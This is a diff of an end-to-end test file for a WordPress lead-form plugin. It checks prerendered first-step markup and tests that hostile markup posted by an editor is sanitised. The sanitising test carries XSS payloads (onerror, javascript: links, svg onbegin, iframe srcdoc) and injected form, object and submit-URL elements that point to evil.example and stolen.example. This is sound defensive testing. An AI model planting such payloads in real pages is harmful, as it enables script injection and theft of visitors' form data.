@@ -1,7 +1,11 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { renderForm } from '../embed/prerenderedPage.ts';
 import type { Page } from 'playwright-core';
 import { beforeAll, describe, expect, test } from 'vitest';
 import { addForm, addPage, signIn } from './admin.ts';
 import { shortForm } from './definitions.ts';
+import { templates } from '../../packages/studio/src/document/templates.ts';
+import { authorMark, firstStepForms, layouts, themes } from '../../packages/wordpress/src/firstStepForms.ts';
 import { password } from './installSite.ts';
 import { sendLead } from './sendLead.ts';
 import { withStandIn } from './standIn.ts';
@@ -37,6 +41,11 @@ async function withoutScript(address: string): Promise<Page> {
   await page.goto(address);
   return page;
 }
+
+const demos = new URL('../../packages/demo/src/definitions/', import.meta.url);
+
+/** Markup as a browser reads it. */
+const parsed = (page: Page, markup: string) => page.evaluate((text) => new DOMParser().parseFromString(text, 'text/html').body.innerHTML, markup);
 
 let owner: Page;
 beforeAll(async () => {
@@ -154,6 +163,45 @@ test('a site in two languages keeps the first step in both', () =>
     }
   }));
 
+interface Kept {
+  readonly definition: string;
+  readonly views: Readonly<Record<string, { readonly html: string; readonly rules: string }>>;
+}
+
+describe('each layout, theme and step that can come first', () => {
+  // Those with a progress indicator, and with a second step.
+  const drawn = firstStepForms().map((form) => JSON.stringify(form)).filter((text) => /"stepper".*"steps":\[\{[^}]*"type".*"end"/.test(text));
+  const own = readdirSync(demos).map((name) => JSON.parse(readFileSync(new URL(name, demos), 'utf8')) as object); // as: definitions of ours
+  const forms = [...drawn.map((text) => text.replaceAll(authorMark, ' “&” ')), ...[...own, ...Object.values(templates)].map((form) => JSON.stringify(form))];
+
+  test('stands in the page whole, with its markup and its rules, also where a form shows its progress', { timeout: 600_000 }, async () => {
+    expect(drawn).toHaveLength(layouts.length * themes.length * 9);
+    for (let first = 0; first < forms.length; first += 20) {
+      const list = Buffer.from(JSON.stringify(forms.slice(first, first + 20))).toString('base64');
+      const ids = site.php(`return array_map( function ( $json ) { return wp_insert_post( wp_slash( array( 'post_type' => 'lead_flow_form', 'post_status' => 'publish', 'post_title' => 'Whole', 'post_content' => $json ) ) ); }, json_decode( base64_decode( '${list}' ), true ) );`) as readonly number[]; // as: what the code returns
+      await owner.goto(`${site.url}wp-admin/edit.php?post_type=lead_flow_form`);
+      const read = () =>
+        site.php(`return array_map( function ( $id ) { $kept = get_post_meta( $id, '_lead_flow_first_step', true ); return $kept ? array( 'definition' => LeadFlow\\Definition::of_text( get_post( $id )->post_content )->to_json( false ), 'views' => $kept['views'] ) : null; }, array( ${ids.join()} ) );`) as ReadonlyArray<Kept | null>; // as: what the code returns
+      await expect.poll(() => read().filter(Boolean).length, { timeout: 60_000 }).toBe(ids.length);
+      for (const kept of read()) {
+        const { html: markup, css } = await renderForm(kept?.definition, { id: 'lead-flow-root-1', locale: 'en-US', url: site.url });
+        expect(await parsed(owner, kept?.views['en-US']?.html ?? '')).toBe(await parsed(owner, markup));
+        expect(kept?.views['en-US']?.rules).toBe(css.slice(css.search(/\[data-lead-flow-rendered\]|$/)));
+      }
+      site.php(`foreach ( array( ${ids.join()} ) as $id ) { wp_delete_post( $id, true ); }`);
+    }
+  });
+
+  test('shows how far a visitor is before the script is there', async () => {
+    const id = addForm(site, 'Progress', { ...shortForm, settings: { showStepsIndicator: true, stepper: 4, customStyles: { '--lf-accent': 'rgb(1, 2, 3)' } } });
+    await draw(owner, id);
+    const page = await withoutScript(addPage(site, 'Progress', block(id)));
+    expect(await page.locator('.lf-progress-fill').evaluate((bar) => getComputedStyle(bar).scale)).toBe('0.25 1');
+    expect(await page.locator('.lf-root').evaluate((root) => getComputedStyle(root).getPropertyValue('--lf-accent'))).toBe('rgb(1, 2, 3)');
+    await page.close();
+  });
+});
+
 describe('what an editor’s browser posts as a first step', () => {
   const post = async (page: Page, id: number, views: unknown) => {
     await page.goto(`${site.url}wp-admin/edit.php?post_type=lead_flow_form`);
@@ -168,7 +216,9 @@ describe('what an editor’s browser posts as a first step', () => {
     const page = await newPage();
     await page.route('**/first-step.js*', (route) => route.abort());
     await signIn(page, site, 'editor');
-    const markup = `<div data-lead-flow-host><img src="x" onerror="window.hit=1"><script>window.hit=1</script><a href="javascript:window.hit=1">Hostile</a><form method="post" action="https://evil.example"></form><button formaction="https://evil.example">Go</button><style>*{display:none}</style><p style="position:fixed">Text</p><textarea></textarea><svg><a><animate onbegin="window.hit=1"></animate></a></svg><iframe srcdoc="<script>window.hit=1</script>"></iframe></div>`;
+    // A root within the root, with addresses of its own; fields and buttons that belong to other forms of the page.
+    const taken = `<div data-lead-flow id="lead-flow" data-lead-flow-submit-url="//stolen.example" data-lead-flow-api="//stolen.example"><div data-lead-flow-data hidden>{}</div><p data-lead-flow-consent="stolen">Agree</p></div><div data-lead-flow-fields><input type="hidden" name="utm_medium" value="stolen"><input type="image" src="//stolen.example"><input name="utm_medium" value="stolen"></div><button type="submit" form="other" name="stolen">Send</button><textarea form="other" id="other"></textarea><object data="//stolen.example"></object>`;
+    const markup = `<div data-lead-flow-host><img src="x" onerror="window.hit=1"><script>window.hit=1</script><a href="javascript:window.hit=1">Hostile</a><form method="post" action="https://evil.example"></form><button formaction="https://evil.example">Go</button><style>*{display:none}</style><p style="position:fixed">Text</p><textarea></textarea><svg><a><animate onbegin="window.hit=1"></animate></a></svg><iframe srcdoc="<script>window.hit=1</script>"></iframe>${taken}</div>`;
     const view = { html: markup, rules: '[data-lead-flow-rendered] .x{width:1px}</style><script>window.hit=1</script>', later: true, preload: ['../../../evil.js'], stamp: '0.0.0-abc' };
     expect(await post(page, id, { 'en-US': view })).toBe(200);
     const printed = await html(addPage(site, 'Hostile', block(id)));
@@ -176,6 +226,7 @@ describe('what an editor’s browser posts as a first step', () => {
     expect(form).toContain('Hostile');
     expect(printed).not.toMatch(/onerror|onbegin|window\.hit=1<\/script>|evil\.example|evil\.js|formaction/);
     expect(form).not.toMatch(/<(?:script|style|iframe|animate)|javascript:|style=|method="post"/);
+    expect(form).not.toMatch(/ data-lead-flow(?:=|-(?:submit-url|data|consent|fields|api|redirect|captcha))| (?:name="utm_medium"|type="hidden"|type="image"|form="other"|id="(?:lead-flow|other)")|stolen|<object|<textarea[^>]* form=/);
     await page.goto(addPage(site, 'Hostile again', block(id)));
     await page.locator('[data-lead-flow]:not([data-lead-flow-rendered])').waitFor();
     expect(await page.evaluate(() => 'hit' in window)).toBe(false);
